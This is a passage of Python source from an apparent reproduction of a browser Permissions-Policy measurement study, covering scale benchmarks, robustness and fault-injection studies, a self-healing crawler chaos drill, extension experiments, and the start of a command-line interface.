    return gates, skipped


def collect_scale(tiers: "tuple[int, ...] | None" = None, *,
                  seed: int = DEFAULT_SEED, workers: int = 4,
                  shards: int = DEFAULT_SHARDS,
                  backend: "str | None" = None) -> dict:
    """The full BENCH_scale.json document.

    ``backend=None`` resolves to ``process`` on a multi-core host and
    ``thread`` on a single core (where process churn only adds overhead).
    """
    chosen = tuple(tiers) if tiers is not None else configured_tiers()
    smallest = min(chosen)
    cpus = os.cpu_count() or 1
    if backend is None:
        backend = "process" if cpus > 1 else "thread"
    report = {
        "seed": seed,
        "workers": workers,
        "shards": shards,
        "backend": backend,
        "cpu_count": cpus,
        "python": platform.python_version(),
        "tiers": [measure_tier(tier, seed=seed, workers=workers,
                               shards=shards, backend=backend,
                               check_identity=(tier == smallest))
                  for tier in chosen],
        # The memo-rate calibration stays on the thread backend: the hit
        # rate is a single-process property, and process workers each
        # start with cold memos.
        "memo": _run_phase(_memo_worker, {
            "site_count": MEMO_SITES, "seed": seed, "workers": workers,
            "backend": "thread"}),
    }
    if cpus >= PROCESS_GATE_MIN_CPUS and smallest >= PROCESS_GATE_MIN_SITES:
        report["backend_race"] = _backend_race(
            smallest, seed=seed, workers=workers, shards=shards)
    report["gates"], report["gates_skipped"] = check_gates(report)
    return report


def _backend_race(site_count: int, *, seed: int, workers: int,
                  shards: int) -> dict:
    """Same store-backed crawl, serial vs warm process pool — the
    headline 2× claim, measured rather than asserted."""
    timings = {}
    with tempfile.TemporaryDirectory(prefix="repro-race-") as scratch:
        for race_backend in ("serial", "process"):
            result = _run_phase(_crawl_worker, {
                "site_count": site_count, "seed": seed, "workers": workers,
                "backend": race_backend, "shards": shards,
                "store_path": str(Path(scratch) / f"{race_backend}.sqlite")})
            timings[race_backend] = result["seconds"]
    return {
        "site_count": site_count,
        "workers": workers,
        "serial_seconds": timings["serial"],
        "process_seconds": timings["process"],
        "speedup": round(timings["serial"] / timings["process"], 2),
    }
