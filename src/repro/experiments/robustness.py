"""Multi-seed robustness of the measurement (reproducibility, Appendix A.2).

The paper visits each origin once (criterion C4), so it cannot quantify
run-to-run variance; our synthetic substrate can.  :func:`seed_sweep`
repeats the full measurement across independent seeds and reports, per
headline metric, the mean, the spread, and whether the paper's value lies
inside the sweep's band — separating "calibration bias" (systematically
off) from "sampling noise" (wide band).
"""

from __future__ import annotations

import math
import statistics
from dataclasses import dataclass, field

from repro.analysis.summary import summarize
from repro.crawler.pool import CrawlerPool
from repro.synthweb.generator import SyntheticWeb


@dataclass(frozen=True)
class MetricRobustness:
    """Sweep statistics for one headline metric."""

    metric: str
    paper_value: float
    mean: float
    stdev: float
    minimum: float
    maximum: float

    @property
    def relative_spread(self) -> float:
        """Coefficient of variation across seeds."""
        return self.stdev / self.mean if self.mean else 0.0

    @property
    def paper_within_band(self) -> bool:
        """Paper value inside the sweep band — the no-gross-bias check.

        The band is mean ± max(3σ, 8 % of the mean): the calibration
        intentionally tolerates single-digit relative offsets on the
        emergent union metrics (DESIGN.md Section 6), so only deviations
        beyond both the sampling noise *and* that tolerance count as bias.
        """
        tolerance = max(3 * self.stdev, 0.08 * abs(self.mean))
        low = min(self.minimum, self.mean - tolerance)
        high = max(self.maximum, self.mean + tolerance)
        return low <= self.paper_value <= high


@dataclass
class SeedSweepResult:
    """Full sweep output."""

    site_count: int
    seeds: tuple[int, ...]
    metrics: list[MetricRobustness] = field(default_factory=list)

    def worst_spread(self) -> MetricRobustness:
        return max(self.metrics, key=lambda m: m.relative_spread)

    def biased_metrics(self) -> list[MetricRobustness]:
        return [metric for metric in self.metrics
                if not metric.paper_within_band]


def seed_sweep(site_count: int = 4000, *, seeds: tuple[int, ...] = (1, 2, 3),
               workers: int = 4) -> SeedSweepResult:
    """Run the measurement once per seed and aggregate headline metrics."""
    if len(seeds) < 2:
        raise ValueError("a sweep needs at least two seeds")
    per_metric: dict[str, list[float]] = {}
    paper_values: dict[str, float] = {}
    for seed in seeds:
        web = SyntheticWeb(site_count, seed=seed)
        dataset = CrawlerPool(web, workers=workers).run()
        summary = summarize(dataset)
        for metric, paper, measured in summary.compare_to_paper():
            per_metric.setdefault(metric, []).append(measured)
            paper_values[metric] = paper
    result = SeedSweepResult(site_count=site_count, seeds=tuple(seeds))
    for metric, values in per_metric.items():
        result.metrics.append(MetricRobustness(
            metric=metric,
            paper_value=paper_values[metric],
            mean=statistics.fmean(values),
            stdev=statistics.stdev(values),
            minimum=min(values),
            maximum=max(values),
        ))
    return result


def expected_noise_floor(share: float, sites: int) -> float:
    """Binomial standard error for a share at a given crawl size — the
    theoretical lower bound the sweep's spread should approach."""
    if not 0.0 < share < 1.0 or sites <= 0:
        return 0.0
    return math.sqrt(share * (1.0 - share) / sites)
