"""Robustness of the measurement (reproducibility, Appendix A.2 + §4).

Two studies:

* :func:`seed_sweep` — the paper visits each origin once (criterion C4),
  so it cannot quantify run-to-run variance; our synthetic substrate can.
  The sweep repeats the full measurement across independent seeds and
  reports, per headline metric, the mean, the spread, and whether the
  paper's value lies inside the sweep's band — separating "calibration
  bias" (systematically off) from "sampling noise" (wide band).
* :func:`fault_injection_study` — the operational claim behind Section 4:
  the crawl survives large injected failure/crash rates, persists every
  attempted visit, and a retry policy shrinks exactly the transient
  taxonomy classes while leaving ``unreachable`` untouched.
"""

from __future__ import annotations

import math
import statistics
from dataclasses import dataclass, field

from repro.analysis.summary import summarize
from repro.crawler.errors import TRANSIENT_TAXONOMIES, UnreachableError
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.pool import CrawlerPool
from repro.crawler.resilience import FaultInjectingFetcher, RetryPolicy
from repro.synthweb.generator import SyntheticWeb


@dataclass(frozen=True)
class MetricRobustness:
    """Sweep statistics for one headline metric."""

    metric: str
    paper_value: float
    mean: float
    stdev: float
    minimum: float
    maximum: float

    @property
    def relative_spread(self) -> float:
        """Coefficient of variation across seeds."""
        return self.stdev / self.mean if self.mean else 0.0

    @property
    def paper_within_band(self) -> bool:
        """Paper value inside the sweep band — the no-gross-bias check.

        The band is mean ± max(3σ, 8 % of the mean): the calibration
        intentionally tolerates single-digit relative offsets on the
        emergent union metrics (DESIGN.md Section 6), so only deviations
        beyond both the sampling noise *and* that tolerance count as bias.
        """
        tolerance = max(3 * self.stdev, 0.08 * abs(self.mean))
        low = min(self.minimum, self.mean - tolerance)
        high = max(self.maximum, self.mean + tolerance)
        return low <= self.paper_value <= high


@dataclass
class SeedSweepResult:
    """Full sweep output."""

    site_count: int
    seeds: tuple[int, ...]
    metrics: list[MetricRobustness] = field(default_factory=list)

    def worst_spread(self) -> MetricRobustness:
        return max(self.metrics, key=lambda m: m.relative_spread)

    def biased_metrics(self) -> list[MetricRobustness]:
        return [metric for metric in self.metrics
                if not metric.paper_within_band]


def seed_sweep(site_count: int = 4000, *, seeds: tuple[int, ...] = (1, 2, 3),
               workers: int = 4) -> SeedSweepResult:
    """Run the measurement once per seed and aggregate headline metrics."""
    if len(seeds) < 2:
        raise ValueError("a sweep needs at least two seeds")
    per_metric: dict[str, list[float]] = {}
    paper_values: dict[str, float] = {}
    for seed in seeds:
        web = SyntheticWeb(site_count, seed=seed)
        dataset = CrawlerPool(web, workers=workers).run()
        summary = summarize(dataset)
        for metric, paper, measured in summary.compare_to_paper():
            per_metric.setdefault(metric, []).append(measured)
            paper_values[metric] = paper
    result = SeedSweepResult(site_count=site_count, seeds=tuple(seeds))
    for metric, values in per_metric.items():
        result.metrics.append(MetricRobustness(
            metric=metric,
            paper_value=paper_values[metric],
            mean=statistics.fmean(values),
            stdev=statistics.stdev(values),
            minimum=min(values),
            maximum=max(values),
        ))
    return result


@dataclass(frozen=True)
class FaultInjectionReport:
    """Failure taxonomies of one web crawled three ways: clean, with
    injected faults, and with injected faults plus a retry policy."""

    site_count: int
    failure_rate: float
    crash_rate: float
    retry_policy: RetryPolicy
    baseline_failures: dict[str, int]
    injected_failures: dict[str, int]
    recovered_failures: dict[str, int]
    retries_spent: int

    @property
    def injected_failure_share(self) -> float:
        """Share of visits that failed under injection (no retries)."""
        return sum(self.injected_failures.values()) / self.site_count

    @property
    def transient_classes_shrunk(self) -> bool:
        """Retries shrink every transient class, and strictly shrink their
        total — the Section 4 shape with a resilient wrapper."""
        injected = sum(self.injected_failures.get(taxonomy, 0)
                       for taxonomy in TRANSIENT_TAXONOMIES)
        recovered = sum(self.recovered_failures.get(taxonomy, 0)
                        for taxonomy in TRANSIENT_TAXONOMIES)
        per_class_ok = all(
            self.recovered_failures.get(taxonomy, 0)
            <= self.injected_failures.get(taxonomy, 0)
            for taxonomy in TRANSIENT_TAXONOMIES)
        return per_class_ok and (recovered < injected or injected == 0)

    @property
    def unreachable_unchanged(self) -> bool:
        """Retrying never resurrects (or inflates) dead hosts."""
        taxonomy = UnreachableError.taxonomy
        return (self.recovered_failures.get(taxonomy, 0)
                == self.injected_failures.get(taxonomy, 0))

    def render(self) -> str:
        taxonomies = sorted(set(self.baseline_failures)
                            | set(self.injected_failures)
                            | set(self.recovered_failures))
        width = max((len(t) for t in taxonomies), default=10) + 2
        lines = [
            f"fault injection over {self.site_count} sites "
            f"(failure_rate={self.failure_rate:.0%}, "
            f"crash_rate={self.crash_rate:.0%}, "
            f"retries<={self.retry_policy.max_retries})",
            f"{'taxonomy':<{width}}{'baseline':>9}{'injected':>9}"
            f"{'+retries':>9}",
        ]
        for taxonomy in taxonomies:
            marker = " (transient)" if taxonomy in TRANSIENT_TAXONOMIES \
                else ""
            lines.append(
                f"{taxonomy:<{width}}"
                f"{self.baseline_failures.get(taxonomy, 0):>9}"
                f"{self.injected_failures.get(taxonomy, 0):>9}"
                f"{self.recovered_failures.get(taxonomy, 0):>9}{marker}")
        lines.append(f"retries spent with policy: {self.retries_spent}")
        return "\n".join(lines)


def fault_injection_study(site_count: int = 600, *, seed: int = 2024,
                          injection_seed: int = 7,
                          failure_rate: float = 0.25,
                          crash_rate: float = 0.05,
                          retry_policy: RetryPolicy | None = None,
                          workers: int = 4) -> FaultInjectionReport:
    """Crawl one web clean, faulted, and faulted-with-retries.

    All three runs are deterministic; the faulted runs share one injection
    seed, so the only difference between them is the retry policy.
    """
    policy = retry_policy if retry_policy is not None else RetryPolicy()
    web = SyntheticWeb(site_count, seed=seed)

    def injecting_factory():
        return FaultInjectingFetcher(
            SyntheticFetcher(web), seed=injection_seed,
            failure_rate=failure_rate, crash_rate=crash_rate)

    baseline = CrawlerPool(web, workers=workers).run()
    injected = CrawlerPool(web, workers=workers,
                           fetcher_factory=injecting_factory).run()
    recovered = CrawlerPool(web, workers=workers, retry_policy=policy,
                            fetcher_factory=injecting_factory).run()
    return FaultInjectionReport(
        site_count=site_count,
        failure_rate=failure_rate,
        crash_rate=crash_rate,
        retry_policy=policy,
        baseline_failures=baseline.failure_summary(),
        injected_failures=injected.failure_summary(),
        recovered_failures=recovered.failure_summary(),
        retries_spent=recovered.retry_count,
    )


def expected_noise_floor(share: float, sites: int) -> float:
    """Binomial standard error for a share at a given crawl size — the
    theoretical lower bound the sweep's spread should approach."""
    if not 0.0 < share < 1.0 or sites <= 0:
        return 0.0
    return math.sqrt(share * (1.0 - share) / sites)
