"""The chaos drill: prove the crawl supervisor self-heals (DESIGN.md §4k).

The drill runs the same crawl twice on the process backend:

1. a **crash-free baseline** (no supervision, no injection) whose JSONL
   export is the ground truth;
2. a **chaos run** under supervision, with a seeded
   :class:`~repro.crawler.chaos.ChaosPolicy` deterministically injecting
   worker deaths (``os._exit`` mid-chunk), a hang (a chunk that sleeps
   far past its watchdog deadline), a poison rank (kills its worker on
   *every* attempt) and a merge-time ``sqlite3.OperationalError``.

The chaos run must complete without raising, and its export must be
byte-identical (SHA-256) to the baseline's export minus exactly the
quarantined poison ranks — recovery replays pure ``(seed, rank)`` visits,
so surviving a crash can never change the dataset.  Recovery telemetry
(rebuilds, watchdog hangs, merge retries, quarantines) must match the
injection plan, and the disabled-supervision overhead estimate must stay
under :data:`OVERHEAD_BOUND` (the supervised dispatch loop only adds
``is None`` / empty-deque branches to the unsupervised path, measured
the same way the observability bench prices disabled hooks).

``benchmarks/bench_perf_chaos.py`` runs this at ``REPRO_CHAOS_SITES``
scale and writes ``BENCH_chaos.json`` plus the quarantine report CI
uploads.
"""

from __future__ import annotations

import glob
import hashlib
import math
import tempfile
import time
from collections import deque
from pathlib import Path

from repro.crawler.chaos import ChaosPolicy
from repro.crawler.pool import CrawlerPool
from repro.crawler.storage import CrawlStore, export_jsonl
from repro.crawler.supervisor import SupervisorConfig
from repro.crawler.telemetry import CrawlTelemetry
from repro.experiments import runner
from repro.synthweb.generator import SyntheticWeb

#: Maximum share of a chunk's duration the disabled supervisor may cost.
OVERHEAD_BOUND = 0.02

#: Watchdog floor for drills — generous against scheduler noise, small
#: enough that the injected hang costs seconds, not the default 30 s.
DRILL_WATCHDOG_FLOOR_SECONDS = 6.0

#: How long the injected hang sleeps — far past any drill deadline, so
#: only the watchdog (never the sleep expiring) can end it.
DRILL_HANG_SECONDS = 900.0


def rebuild_budget(*, kills: int, hangs: int, poisons: int,
                   max_chunk_size: int) -> int:
    """A rebuild budget with headroom for the injection plan.

    Each kill/hang costs one rebuild.  Each poison rank costs its
    strike crashes, an isolation probe, and one proven-guilty crash per
    bisection level (``log2`` of the largest chunk it can hide in).
    """
    per_poison = 2 + 1 + math.ceil(math.log2(max(2, max_chunk_size))) + 2
    return kills + hangs + poisons * per_poison + 4


def supervision_off_cost(iterations: int = 200_000) -> float:
    """Seconds per chunk the *disabled* supervisor adds to dispatch.

    With ``supervisor=None`` the rewritten dispatch loop differs from the
    pre-supervision backend only by a handful of ``is None`` and
    empty-deque branches per chunk (the jobs map, strike bookkeeping and
    watchdog timeout are all skipped).  Timing those branches directly
    beats an A/B wall-clock race, which at real crawl scale is noise-
    dominated (same reasoning as the observability bench's disabled-hook
    pricing).
    """
    sup = None
    chaos = None
    requeued: deque = deque()
    probation: deque = deque()
    probe_job = None
    sink = 0
    start = time.perf_counter()
    for _ in range(iterations):
        # The per-chunk branch census of the unsupervised dispatch path:
        # top-up (probe/probation/requeued), submit, result handling,
        # merge attempts, worker-side chaos hook.
        if probe_job is not None:
            sink += 1
        if probation:
            sink += 1
        if requeued:
            sink += 1
        if sup is not None:
            sink += 1
        if sup is not None:
            sink += 1
        if sup is not None:
            sink += 1
        if sup is not None:
            sink += 1
        if chaos is not None:
            sink += 1
        if chaos is not None:
            sink += 1
    elapsed = time.perf_counter() - start
    assert sink == 0
    return elapsed / iterations


def _export_digest(store: CrawlStore, path: Path,
                   exclude: "frozenset[int] | set[int]" = frozenset(),
                   ) -> "tuple[str, int]":
    count = export_jsonl(
        (visit for visit in store.iter_visits()
         if visit.rank not in exclude), path)
    return hashlib.sha256(path.read_bytes()).hexdigest(), count


def collect_chaos(site_count: int, *, seed: int = runner.DEFAULT_SEED,
                  workers: int = 4, kills: int = 3, hangs: int = 1,
                  poisons: int = 1, merge_errors: int = 1,
                  chaos_seed: int = 97) -> dict:
    """Run the drill and return the ``BENCH_chaos.json`` document."""
    from repro.crawler.backends import MAX_CHUNK_SIZE

    web = SyntheticWeb(site_count, seed=seed)
    budget = rebuild_budget(kills=kills, hangs=hangs, poisons=poisons,
                            max_chunk_size=MAX_CHUNK_SIZE)
    report: dict = {
        "site_count": site_count, "seed": seed, "workers": workers,
        "rebuild_budget": budget,
    }
    gates: dict = {}
    gates_skipped: list[dict] = []

    with tempfile.TemporaryDirectory(prefix="repro-chaos-") as tmpdir:
        tmp = Path(tmpdir)

        # Crash-free baseline: the ground truth bytes.
        baseline_store = CrawlStore(tmp / "baseline.sqlite")
        baseline_pool = CrawlerPool(web, workers=workers, backend="process")
        started = time.perf_counter()
        baseline_pool.run(store=baseline_store, collect=False)
        baseline_seconds = time.perf_counter() - started

        # Chaos run under supervision.
        chaos = ChaosPolicy.plan(
            site_count, seed=chaos_seed, kills=kills, hangs=hangs,
            poisons=poisons, merge_errors=merge_errors,
            state_dir=str(tmp / "chaos-state"),
            hang_seconds=DRILL_HANG_SECONDS)
        config = SupervisorConfig(
            max_pool_rebuilds=budget,
            watchdog_floor_seconds=DRILL_WATCHDOG_FLOOR_SECONDS)
        chaos_store = CrawlStore(tmp / "chaos.sqlite")
        telemetry = CrawlTelemetry()
        chaos_pool = CrawlerPool(web, workers=workers, backend="process")
        started = time.perf_counter()
        chaos_pool.run(store=chaos_store, collect=False, chaos=chaos,
                       supervisor=config, telemetry=telemetry)
        chaos_seconds = time.perf_counter() - started
        gates["chaos_run_completed"] = True

        stats = chaos_pool.last_supervisor_stats
        fired = chaos.fired()
        snapshot = telemetry.snapshot()
        quarantined = set(snapshot.quarantined_ranks)
        quarantine_rows = chaos_store.quarantine_rows()
        leftovers = sorted(
            glob.glob(str(tmp / "*.wchunk-*"))
            + glob.glob(str(tmp / "*.shard-*")))

        # Byte identity: chaos export == baseline export minus exactly
        # the quarantined ranks.
        chaos_sha, chaos_count = _export_digest(
            chaos_store, tmp / "chaos.jsonl")
        truth_sha, truth_count = _export_digest(
            baseline_store, tmp / "baseline-minus-quarantine.jsonl",
            exclude=quarantined)
        baseline_sha, baseline_count = _export_digest(
            baseline_store, tmp / "baseline.jsonl")
        baseline_store.close()
        chaos_store.close()

    plan = chaos.planned()
    gates["byte_identical_modulo_quarantine"] = chaos_sha == truth_sha
    gates["quarantine_matches_poison_plan"] = (
        sorted(quarantined) == sorted(plan["poison"]))
    gates["kills_fired_per_plan"] = fired["kill"] == plan["kill"]
    gates["rebuilds_within_budget"] = stats["rebuilds"] <= budget
    gates["crash_recovery_counts"] = (
        stats["rebuilds"] >= kills + hangs
        and stats["requeued_ranks"] > 0)
    gates["no_sidecar_leftovers"] = not leftovers
    if hangs > 0:
        gates["hang_caught_by_watchdog"] = (
            stats["watchdog_hangs"] >= hangs
            and fired["hang"] == plan["hang"])
    else:
        gates_skipped.append({"gate": "hang_caught_by_watchdog",
                              "reason": "no hangs in the injection plan"})
    if merge_errors > 0:
        gates["merge_retry_recovered"] = (
            stats["merge_retries"] >= merge_errors
            and fired["merge"] == plan["merge"])
    else:
        gates_skipped.append({"gate": "merge_retry_recovered",
                              "reason": "no merge errors in the plan"})

    per_chunk = supervision_off_cost()
    from repro.crawler.backends import TARGET_CHUNK_SECONDS
    overhead_share = per_chunk / TARGET_CHUNK_SECONDS
    gates["supervision_off_overhead_under_bound"] = (
        overhead_share < OVERHEAD_BOUND)

    report.update({
        "injection_plan": {kind: list(ranks)
                           for kind, ranks in plan.items()},
        "injections_fired": {kind: list(ranks)
                             for kind, ranks in fired.items()},
        "baseline": {"seconds": round(baseline_seconds, 3),
                     "visits": baseline_count,
                     "export_sha256": baseline_sha},
        "chaos": {"seconds": round(chaos_seconds, 3),
                  "visits": chaos_count,
                  "export_sha256": chaos_sha,
                  "truth_minus_quarantine_sha256": truth_sha,
                  "truth_minus_quarantine_visits": truth_count},
        "supervisor": stats,
        "quarantine_report": {
            "quarantined_ranks": sorted(quarantined),
            "rows": [{"rank": rank, "reason": reason, "detail": detail}
                     for rank, reason, detail in quarantine_rows],
            "events": stats["events"],
        },
        "supervision_off_overhead": {
            "per_chunk_seconds": per_chunk,
            "target_chunk_seconds": TARGET_CHUNK_SECONDS,
            "share_of_chunk": overhead_share,
            "bound": OVERHEAD_BOUND,
        },
        "sidecar_leftovers": leftovers,
        "gates": gates,
        "gates_skipped": gates_skipped,
    })
    return report
