"""Experiment drivers for the beyond-paper extension studies.

Mirrors :mod:`repro.experiments.tables` for the extensions DESIGN.md
Section 4b describes; EXPERIMENTS.md records their output alongside the
paper tables so the whole evidence base regenerates from one run.
"""

from __future__ import annotations

from repro.analysis.categories import DelegationPurpose, purpose_clusters
from repro.analysis.chains import NestedDelegationAnalysis
from repro.analysis.fingerprinting import fingerprint_surface
from repro.analysis.proposals import (
    evaluate_default_disallow_all,
    local_scheme_attack_surface,
)
from repro.analysis.prompts_analysis import PromptAnalysis
from repro.analysis.ranks import RankBucketAnalysis
from repro.analysis.report import render_table
from repro.analysis.violations import ViolationAnalysis
from repro.experiments.runner import ExperimentContext
from repro.experiments.tables import ExperimentResult


def ext_nested_chains(ctx: ExperimentContext) -> ExperimentResult:
    """Nested re-delegation chains (Section 2.2.5 quantified)."""
    analysis = NestedDelegationAnalysis(ctx.dataset.successful())
    rows = [(permission, count)
            for permission, count
            in analysis.redelegated_permissions.most_common(8)]
    rendered = render_table(("re-delegated permission", "chains"), rows,
                            title="Nested delegation chains (depth >= 2)")
    rendered += (f"\nsites with nested delegation: "
                 f"{analysis.sites_with_nested_delegation}; "
                 f"max depth {analysis.max_depth}; nested frame holds the "
                 f"permission in {analysis.enabled_share():.1%} of chains")
    ok = (analysis.sites_with_nested_delegation > 0
          and analysis.enabled_share() > 0.9)
    return ExperimentResult("ext_nested_chains",
                            "Nested delegation chains", rendered, ok)


def ext_proposals(ctx: ExperimentContext) -> ExperimentResult:
    """The Section 6.2 spec proposals, quantified."""
    visits = ctx.dataset.successful()
    breakage = evaluate_default_disallow_all(visits)
    surface = local_scheme_attack_surface(visits)
    rendered = "\n".join([
        "Spec proposal studies (Section 6.2)",
        f"  deny-all default: {breakage.sites_breaking} of "
        f"{breakage.header_sites} header sites would break "
        f"({breakage.breaking_share:.1%}); most-broken: "
        + ", ".join(name for name, _
                    in breakage.broken_permissions.most_common(3)),
        f"  local-scheme exposure: {surface.exposed_sites} of "
        f"{surface.sites_with_self_only_powerful} self-restricting sites "
        f"({surface.exposure_share:.0%}) lack a frame-constraining CSP",
    ])
    ok = (breakage.header_sites > 0
          and 0.0 < breakage.breaking_share < 0.6
          and surface.exposure_share > 0.5)
    return ExperimentResult("ext_proposals", "Spec proposal studies",
                            rendered, ok)


def ext_fingerprinting(ctx: ExperimentContext) -> ExperimentResult:
    """The Section 4.1.1 fingerprinting hypothesis, quantified."""
    report = fingerprint_surface()
    rendered = "\n".join([
        "Permission-list fingerprinting surface",
        f"  releases modelled:        {report.total_releases}",
        f"  distinct permission lists: {report.distinct_lists}",
        f"  distinguishable pairs:    {report.distinguishable_pairs()} "
        f"({report.distinguishability():.0%})",
        f"  entropy:                  {report.entropy_bits:.2f} of "
        f"{report.max_entropy_bits:.2f} bits",
    ])
    ok = report.distinct_lists >= 8 and report.distinguishability() > 0.7
    return ExperimentResult("ext_fingerprinting",
                            "Fingerprinting surface", rendered, ok)


def ext_purpose_clusters(ctx: ExperimentContext) -> ExperimentResult:
    """The Section 4.2.1 purpose grouping, reconstructed from data."""
    clusters = purpose_clusters(ctx.dataset.successful())
    rows = [(cluster.purpose.value,
             ", ".join(site for site, _ in cluster.sites[:3]),
             cluster.total_websites)
            for cluster in clusters]
    rendered = render_table(("purpose", "exemplars", "# websites"), rows,
                            title="Delegation purpose clusters")
    by_purpose = {cluster.purpose for cluster in clusters}
    ok = {DelegationPurpose.ADS, DelegationPurpose.MULTIMEDIA,
          DelegationPurpose.CUSTOMER_SUPPORT,
          DelegationPurpose.PAYMENT} <= by_purpose
    return ExperimentResult("ext_clusters", "Purpose clusters", rendered, ok)


def ext_rank_gradient(ctx: ExperimentContext) -> ExperimentResult:
    """Header adoption by popularity bucket."""
    analysis = RankBucketAnalysis(ctx.dataset.successful(),
                                  ctx.web.site_count)
    rows = [(bucket.label, f"{bucket.pp_header_share:.2%}",
             f"{bucket.delegation_share:.2%}", bucket.sites)
            for bucket in analysis.buckets]
    rendered = render_table(("bucket", "PP adoption", "delegating", "sites"),
                            rows, title="Adoption by popularity")
    gradient = dict(analysis.adoption_gradient())
    ok = (analysis.is_adoption_monotone()
          and gradient["top 2%"] > gradient["tail"])
    return ExperimentResult("ext_rank_gradient", "Rank gradient",
                            rendered, ok)


def ext_violations(ctx: ExperimentContext) -> ExperimentResult:
    """Blocked-call classification (self-inflicted vs missing delegation)."""
    report = ViolationAnalysis(ctx.dataset.successful()).report
    rendered = "\n".join([
        "Policy violations (blocked calls)",
        f"  sites with blocked calls:       "
        f"{report.sites_with_blocked_calls}",
        f"  self-inflicted (own header):    "
        f"{report.sites_with_self_inflicted}",
        f"  embedded, missing delegation:   "
        f"{report.sites_with_missing_delegation}",
        "  most blocked: " + ", ".join(
            f"{name} ({count})"
            for name, count in report.top_blocked(5)),
    ])
    ok = report.sites_with_blocked_calls > 0
    return ExperimentResult("ext_violations", "Policy violations",
                            rendered, ok)


def ext_prompt_pressure(ctx: ExperimentContext) -> ExperimentResult:
    """On-load permission prompts (the Section 7 prompt-UX connection)."""
    analysis = PromptAnalysis(ctx.dataset.successful())
    report = analysis.report
    rendered = "\n".join([
        "Prompt pressure (prompts fired without any user gesture)",
        f"  sites prompting on load: {report.sites_prompting_on_load} "
        f"({analysis.prompting_share:.2%})",
        "  top offenders: " + ", ".join(
            f"{name} ({count})" for name, count in analysis.top_offenders()),
        f"  prompts from embedded documents: {report.embedded_share:.1%}",
        f"  prompts naming the embedded site (storage-access): "
        f"{report.prompts_naming_embedded_site}",
    ])
    offenders = dict(analysis.top_offenders(1))
    ok = (report.sites_prompting_on_load > 0
          and "notifications" in offenders)
    return ExperimentResult("ext_prompts", "Prompt pressure", rendered, ok)


#: Extension drivers, keyed like ALL_EXPERIMENTS.
ALL_EXTENSIONS = {
    "ext_nested_chains": ext_nested_chains,
    "ext_proposals": ext_proposals,
    "ext_fingerprinting": ext_fingerprinting,
    "ext_clusters": ext_purpose_clusters,
    "ext_rank_gradient": ext_rank_gradient,
    "ext_violations": ext_violations,
    "ext_prompts": ext_prompt_pressure,
}
