"""Command-line interface.

``permissions-odyssey`` exposes the pipeline end to end:

* ``crawl`` — run the measurement crawl over the synthetic web, persisting
  each visit to SQLite as it completes; ``--resume`` continues from the
  checkpoint, ``--retries`` re-attempts transient failures,
  ``--progress`` streams crawl telemetry, and ``--shards N`` with
  ``--no-collect`` runs paper-scale crawls in bounded memory;
* ``merge-stores`` — merge shard crawl databases into one store;
* ``diff-stores`` — streamed per-site + aggregate diff of two stored
  crawls (text, JSON or HTML);
* ``drift-report`` — fold N stored crawls into a drift timeline and
  render the fused report (DESIGN.md §4i);
* ``telemetry`` — run a (optionally fault-injected) crawl and print the
  full telemetry report;
* ``analyze`` — print the Section 4 headline comparison for a stored or
  fresh crawl;
* ``experiment`` — regenerate one paper table/figure (or all of them);
* ``support`` — print the permission-support matrix (Figure 3);
* ``generate-header`` — build a Permissions-Policy header (Figure 4);
* ``lint-header`` — lint a header value like the browser would;
* ``recommend`` — crawl one site and suggest a least-privilege policy;
* ``poc`` — run the local-scheme specification-issue proof of concept;
* ``profile`` — run the instrumented pipeline and print the per-stage
  breakdown (DESIGN.md §4f);
* ``verify-store`` — checksum-verify a crawl database and (with
  ``--repair``) quarantine corrupt rows (DESIGN.md §4g);
* ``export-jsonl`` / ``import-jsonl`` — move crawl data through the
  hardened JSONL format (atomic writes, count trailer, skip-with-warning
  imports).

``crawl`` installs SIGINT/SIGTERM handlers for the duration of the run:
an interrupt finishes in-flight visits, flushes the checkpoint, and
prints the ``--resume`` hint instead of corrupting the store.

``--log-level`` (global) configures stdlib logging; ``--trace-out FILE``
on ``crawl``, ``telemetry`` and ``profile`` enables tracing for the run
and writes a Chrome-loadable ``trace_event`` JSON file.
"""

from __future__ import annotations

import argparse
import logging
import sys
from contextlib import ExitStack

from repro.analysis.report import render_comparison
from repro.analysis.summary import summarize
from repro.crawler.backends import FaultInjectionSpec
from repro.crawler.fetcher import SyntheticFetcher
from repro.crawler.pool import BACKENDS, CrawlerPool
from repro.crawler.resilience import RetryPolicy
from repro.crawler.storage import CrawlStore
from repro.crawler.telemetry import CrawlTelemetry
from repro.experiments.runner import run_measurement
from repro.experiments.tables import ALL_EXPERIMENTS
from repro.policy.linter import HeaderLinter
from repro.synthweb.generator import SyntheticWeb
from repro.tools.header_generator import HeaderGenerator, HeaderPreset
from repro.tools.poc import LocalSchemePoC
from repro.tools.recommender import PolicyRecommender
from repro.tools.support_site import SupportSiteReport


def _rate(value: str) -> float:
    rate = float(value)
    if not 0.0 <= rate <= 1.0:
        raise argparse.ArgumentTypeError(f"{value} is not in [0, 1]")
    return rate


def _build_parser() -> argparse.ArgumentParser:
    parser = argparse.ArgumentParser(
        prog="permissions-odyssey",
        description="Reproduction of 'A Permissions Odyssey' (IMC '25)")
    parser.add_argument("--log-level", default=None,
                        choices=["debug", "info", "warning", "error"],
                        help="configure stdlib logging (default: off)")
    sub = parser.add_subparsers(dest="command", required=True)

    crawl = sub.add_parser("crawl", help="run the measurement crawl")
    crawl.add_argument("--sites", type=int, default=5000)
    crawl.add_argument("--seed", type=int, default=2024)
    crawl.add_argument("--workers", type=int, default=4,
                       help="worker threads or processes")
    crawl.add_argument("--backend", choices=list(BACKENDS), default="auto",
                       help="crawl execution backend; 'process' uses "
                            "multiple cores (results are identical)")
    crawl.add_argument("--database", default="crawl.sqlite")
    crawl.add_argument("--resume", action="store_true",
                       help="skip ranks already in the database checkpoint")
    crawl.add_argument("--shards", type=int, default=1,
                       help="partition the crawl into N contiguous shards, "
                            "each persisted to a sidecar store and merged "
                            "into --database as it completes (bounded "
                            "memory; results identical to --shards 1)")
    crawl.add_argument("--no-collect", action="store_true",
                       help="do not keep visits in memory (the database is "
                            "the output); required for crawls larger than "
                            "RAM")
    crawl.add_argument("--max-pool-rebuilds", type=int, default=0,
                       metavar="N",
                       help="supervise the process backend: rebuild a "
                            "crashed/hung worker pool up to N times, "
                            "requeue lost chunks and quarantine "
                            "poison-visit ranks instead of dying "
                            "(0 = off; requires --backend process)")
    crawl.add_argument("--retries", type=int, default=0,
                       help="max retries for transient failures")
    crawl.add_argument("--progress", action="store_true",
                       help="stream crawl telemetry while running")
    crawl.add_argument("--trace-out", default=None, metavar="FILE",
                       help="enable tracing and write a Chrome trace_event "
                            "JSON file for the run")

